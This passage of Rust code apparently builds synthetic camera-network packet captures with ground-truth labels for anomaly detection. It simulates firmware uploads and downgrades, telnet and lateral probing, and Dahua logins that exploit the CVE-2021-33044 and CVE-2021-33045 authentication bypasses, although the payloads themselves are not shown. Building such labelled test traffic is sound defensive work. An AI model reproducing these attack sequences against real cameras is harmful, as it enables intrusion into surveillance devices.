        Ok(http_response("200 OK", "App-webs/", &ctx.date(t)?, "application/xml", &info))
    })?;
    Ok(())
}

/// The client sends `data` in full-sized segments `gap` apart from `start`, the server
/// acknowledging every second segment `delay` later. Returns the time of the last segment and
/// the acknowledgements (time, number) still due after it.
fn paced_send(
    plan: &mut Plan,
    c: &mut Conn,
    start: u64,
    gap: u64,
    delay: u64,
    data: &[u8],
) -> (u64, VecDeque<(u64, u32)>) {
    let mut acks: VecDeque<(u64, u32)> = VecDeque::new();
    let mut last = start;
    for (i, chunk) in data.chunks(SEG_PAYLOAD).enumerate() {
        let ts = start + gap * i as u64;
        while let Some(&(at, ack)) = acks.front().filter(|(at, _)| *at <= ts) {
            c.ack_to(plan, false, at, ack);
            acks.pop_front();
        }
        c.segment(plan, true, ts, chunk.to_vec());
        if i % 2 == 1 {
            acks.push_back((ts + delay, c.next_seq(true)));
        }
        last = ts;
    }
    (last, acks)
}

/// A camera pushes `bytes` of TLS application data to an internet host in full-sized
/// segments, the far end acknowledging every second segment one round trip later.
fn upload(plan: &mut Plan, ctx: &Ctx, bytes: usize) -> anyhow::Result<()> {
    let Some(cam) = ctx.site.cameras.last() else {
        return Ok(());
    };
    let mut rng = ctx.rng("upload", 0);
    let rng = &mut rng;
    let dial = Dial { client: cam.host, server: ctx.site.upload_server, port: 443, kind: Some("upload") };
    let rtt = wan_rtt(rng);
    let t = ctx.window(rng, 30, 60);
    let (mut c, t) = Conn::connect(plan, rng, dial, t, rtt)?;

    let t = tls_handshake(plan, rng, &mut c, t, rtt, UPLOAD_SNI);

    // Bulk transfer, paced so that at most ~24 segments are in flight (well inside the
    // server's window).
    let data = p::tls_bulk(rng, bytes);
    let gap = (rtt.server / 24).max(100);
    let start = t + jitter(rng, 200, MS);
    let (last, mut acks) = paced_send(plan, &mut c, start, gap, rtt.server, &data);
    let t_fin = last + gap;
    while let Some(&(at, ack)) = acks.front().filter(|(at, _)| *at <= t_fin) {
        c.ack_to(plan, false, at, ack);
        acks.pop_front();
    }
    c.fin(plan, true, t_fin);
    for (at, ack) in acks {
        c.ack_to(plan, false, at, ack);
    }
    let t = t_fin + rtt.server;
    c.fin(plan, false, t);
    c.pure_ack(plan, true, t + rtt.client);
    Ok(())
}

/// The workstation uploads a `digicap.dav` image to the first Hikvision camera with
/// `PUT /ISAPI/System/updateFirmware`; the camera accepts it and from then on announces
/// [`HIK_UPGRADE_FIRMWARE`]. Timed so that a discovery announcement follows when the capture
/// is long enough.
fn firmware(plan: &mut Plan, ctx: &Ctx, bytes: usize) -> anyhow::Result<Option<Upgrade>> {
    let Some((i, cam)) = ctx.site.cameras.iter().enumerate().find(|(_, c)| c.vendor == Vendor::Hikvision)
    else {
        return Ok(None);
    };
    let mut rng = ctx.rng("firmware", 0);
    let rng = &mut rng;
    let image = mgmt::digicap(rng, bytes);
    // About 75-95 Mbit/s on the camera's 100 Mbit/s port.
    let gap = jitter(rng, 125, 160);
    // After the NVR's device-information polls (first quarter at most), so those still report
    // the old version; early enough for a discovery announcement to follow if one can.
    let (lo, hi) = (ctx.dur * 30 / 100, ctx.dur * 60 / 100);
    let needed = (image.len() / SEG_PAYLOAD + 2) as u64 * gap + 4 * SEC;
    let latest = discovery_times(ctx, i).last().map_or(0, |h| h.saturating_sub(needed));
    let t = if latest > lo { jitter(rng, lo, hi.min(latest)) } else { jitter(rng, lo, hi) };

    let dial = Dial { client: ctx.site.workstation, server: cam.host, port: 80, kind: Some("firmware") };
    let rtt = lan_rtt(rng);
    let (mut c, t) = Conn::connect(plan, rng, dial, t, rtt)?;
    let mut auth = mgmt::Digest::new(rng, cam);
    let mut data = mgmt::isapi_update_firmware_head(cam, &mut auth, image.len());
    data.extend_from_slice(&image);
    let start = t + jitter(rng, 200, MS);
    let (last, acks) = paced_send(plan, &mut c, start, gap, rtt.server, &data);
    for (at, ack) in acks {
        c.ack_to(plan, false, at, ack);
    }
    // Delayed ACK of an odd last segment, then the answer once the image is checked.
    c.pure_ack(plan, false, last + rtt.server + jitter(rng, 20 * MS, 40 * MS));
    let tr = last + rtt.server + jitter(rng, 800 * MS, 2 * SEC);
    let response = mgmt::isapi_response(&ctx.date(tr)?, &mgmt::isapi_upgrade_status());
    let t = c.send(plan, false, tr, 40, &response);
    let t = t + rtt.client + jitter(rng, 100, MS);
    let done = c.close(plan, true, t, rtt.server, rtt.client);

    plan.firmware_uploads.push(TruthFirmwareUpload {
        device: cam.ip,
        from: ctx.site.ip(ctx.site.workstation),
        size: image.len() as u64,
        sha256: mgmt::sha256_hex(&image),
        new_version: HIK_UPGRADE_FIRMWARE.to_string(),
    });
    Ok(Some(Upgrade { camera: i, at: done, version: HIK_UPGRADE_FIRMWARE }))
}

/// When the last Dahua camera of the `downgrade` anomaly switches to
/// [`DAHUA_DOWNGRADE_FIRMWARE`]: before one of its DHIP announcements in the second half of the
/// capture that follows at least one other. `None` if it makes no such announcement (captures
/// shorter than about a minute).
fn downgrade_time(ctx: &Ctx) -> Option<Upgrade> {
    let (i, _) = ctx.site.cameras.iter().enumerate().rev().find(|(_, c)| c.vendor == Vendor::Dahua)?;
    let times = discovery_times(ctx, i);
    let half = ctx.dur / 2;
    let eligible: Vec<usize> = (1..times.len()).filter(|&k| times[k] > half).collect();
    if eligible.is_empty() {
        return None;
    }
    let mut rng = ctx.rng("downgrade", 0);
    let k = eligible[rng.random_range(0..eligible.len())];
    let at = jitter(&mut rng, times[k - 1].max(half), times[k]);
    Some(Upgrade { camera: i, at, version: DAHUA_DOWNGRADE_FIRMWARE })
}

/// The workstation logs in to the last Dahua camera with the CVE-2021-33044 and, a few seconds
/// later on a new connection, the CVE-2021-33045 authentication bypass; both succeed.
fn dahua_exploit(plan: &mut Plan, ctx: &Ctx) -> anyhow::Result<()> {
    let Some(cam) = ctx.site.cameras_of(Vendor::Dahua).next_back() else {
        return Ok(());
    };
    let mut rng = ctx.rng("dahua-exploit", 0);
    let rng = &mut rng;
    let host = cam.ip.to_string();
    let ws = ctx.site.workstation;
    let dial = Dial { client: ws, server: cam.host, port: 80, kind: Some("dahua_exploit") };
    let mut t = ctx.window(rng, 35, 55);
    for (id, cve, body) in DAHUA_LOGINS {
        let request = http_request(
            "POST",
            mgmt::DAHUA_RPC2_LOGIN,
            &host,
            HTTP_CLIENT,
            Some(("application/json", body)),
        );
        let response = mgmt::dahua_json_response(&mgmt::dahua_login_ok(rng, id));
        let rtt = lan_rtt(rng);
        t = http_exchange(plan, rng, dial, rtt, t, &request, |_| Ok(response))?;
        t += jitter(rng, 2 * SEC, 8 * SEC);
        plan.anomaly_events.push(TruthEvent {
            kind: "dahua_exploit".into(),
            device: cam.ip,
            peer: Some(ctx.site.ip(ws)),
            detail: cve.into(),
        });
    }
    Ok(())
}

/// The workstation opens a telnet session to the last Hikvision camera: option negotiation,
/// the camera's login prompt, and the workstation closes a few seconds later.
fn telnet(plan: &mut Plan, ctx: &Ctx) -> anyhow::Result<()> {
    let Some(cam) = ctx.site.cameras_of(Vendor::Hikvision).next_back() else {
        return Ok(());
    };
    let mut rng = ctx.rng("telnet", 0);
    let rng = &mut rng;
    let ws = ctx.site.workstation;
    let dial = Dial { client: ws, server: cam.host, port: 23, kind: Some("telnet") };
    let rtt = lan_rtt(rng);
    let t = ctx.window(rng, 60, 80);
    let (mut c, t) = Conn::connect(plan, rng, dial, t, rtt)?;
    let t = t + jitter(rng, 100, MS);
    c.segment(plan, true, t, p::telnet_client_hello());
    let t = t + rtt.server + jitter(rng, MS, 5 * MS);
    c.segment(plan, false, t, p::telnet_server_hello());
    c.pure_ack(plan, true, t + rtt.client);
    let t = t + jitter(rng, SEC, 4 * SEC);
    c.close(plan, true, t, rtt.server, rtt.client);
    plan.anomaly_events.push(TruthEvent {
        kind: "telnet".into(),
        device: cam.ip,
        peer: Some(ctx.site.ip(ws)),
        detail: "23/tcp".into(),
    });
    Ok(())
}

/// The last Dahua camera requests the first Hikvision camera's web root and gets the digest
/// challenge.
fn lateral(plan: &mut Plan, ctx: &Ctx) -> anyhow::Result<()> {
    let (Some(src), Some(dst)) =
        (ctx.site.cameras_of(Vendor::Dahua).next_back(), ctx.site.cameras_of(Vendor::Hikvision).next())
    else {
        return Ok(());
    };
    let mut rng = ctx.rng("lateral", 0);
    let rng = &mut rng;
    let mut nonce_rng = ctx.rng("lateral-nonce", 0);
    let dial = Dial { client: src.host, server: dst.host, port: 80, kind: Some("lateral") };
    let request = http_request("GET", "/", &dst.ip.to_string(), "Wget", None);
    let rtt = lan_rtt(rng);
    let t = ctx.window(rng, 40, 80);
    http_exchange(plan, rng, dial, rtt, t, &request, |t| {
        Ok(mgmt::hik_unauthorized(&mut nonce_rng, dst, &ctx.date(t)?))
    })?;
    plan.anomaly_events.push(TruthEvent {
        kind: "lateral".into(),
        device: src.ip,
        peer: Some(dst.ip),
        detail: "80/tcp".into(),
    });
    Ok(())
}

/// The NVR reads the Hik-Connect setting of the camera of the `cloud_enabled` anomaly (whose
/// SADP announcements carry `HCPlatformEnable` true).
fn ezviz(plan: &mut Plan, ctx: &Ctx) -> anyhow::Result<()> {
    let Some(cam) = ctx.site.cameras.iter().find(|c| c.hc_platform) else {
        return Ok(());
    };
    let mut rng = ctx.rng("ezviz", 0);
    let rng = &mut rng;
    let t = ctx.window(rng, 8, 25);
    let dial = Dial { client: ctx.site.nvr, server: cam.host, port: 80, kind: None };
    let rtt = lan_rtt(rng);
    let mut auth = mgmt::Digest::new(rng, cam);
    let request = mgmt::isapi_get(cam, &mut auth, mgmt::ISAPI_EZVIZ);
    http_exchange(plan, rng, dial, rtt, t, &request, |t| {
        Ok(mgmt::isapi_response(&ctx.date(t)?, mgmt::isapi_ezviz_enabled()))
    })?;
    plan.anomaly_events.push(TruthEvent {
        kind: "cloud_enabled".into(),
        device: cam.ip,
        peer: None,
        detail: HIK_CLOUD_NAME.into(),
    });
    Ok(())
}

/// The first Hikvision camera fetches a `digicap.dav` image of `bytes` bytes from the TFTP
/// server (RFC 1350, `octet` mode): a read request to port 69, then lock-step DATA blocks of
/// 512 bytes from the server's own port, each acknowledged; a shorter (possibly empty) block
/// ends the transfer.
fn tftp_firmware(plan: &mut Plan, ctx: &Ctx, bytes: usize) -> anyhow::Result<()> {
    let Some(cam) = ctx.site.cameras_of(Vendor::Hikvision).next() else {
        return Ok(());
    };
    let mut rng = ctx.rng("tftp", 0);
    let rng = &mut rng;
    let server = ctx.site.tftp_server;
    let image = mgmt::digicap(rng, bytes);
    let t = ctx.window(rng, 65, 85);
    let rrq = plan.udp_flow(rng, cam.host, Peer::Host(server), 69, Some("tftp_firmware"))?;
    let cam_port = plan.flows[rrq].client_port;
    plan.udp(t, rrq, true, p::tftp_rrq(TFTP_FILE));
    // The server answers from a new port (its transfer identifier).
    let server_port = plan.ephemeral_port(rng, server, UDP);
    let data = plan.flow(UDP, server, server_port, Peer::Host(cam.host), cam_port, Some("tftp_firmware"))?;
    let mut blocks: Vec<&[u8]> = image.chunks(p::TFTP_BLOCK).collect();
    // A transfer ends with a block shorter than 512 bytes: an empty one if need be.
    if blocks.last().is_none_or(|b| b.len() == p::TFTP_BLOCK) {
        blocks.push(&[]);
    }
    let mut t = t + jitter(rng, 300, 2 * MS);
    for (n, chunk) in blocks.into_iter().enumerate() {
        // Block numbers start at 1 and wrap after 65535.
        let block = (n as u64 + 1) as u16;
        plan.udp(t, data, true, p::tftp_data(block, chunk));
        t += jitter(rng, 60, 200);
        plan.udp(t, data, false, p::tftp_ack(block));
        t += jitter(rng, 80, 300);
    }
    let from = ctx.site.ip(server);
    plan.tftp_downloads.push(TruthFirmwareUpload {
        device: cam.ip,
        from,
        size: image.len() as u64,
        sha256: mgmt::sha256_hex(&image),
        new_version: String::new(),
    });
    plan.anomaly_events.push(TruthEvent {
        kind: "tftp_firmware".into(),
        device: cam.ip,
        peer: Some(from),
        detail: TFTP_FILE.into(),
    });
    Ok(())
}
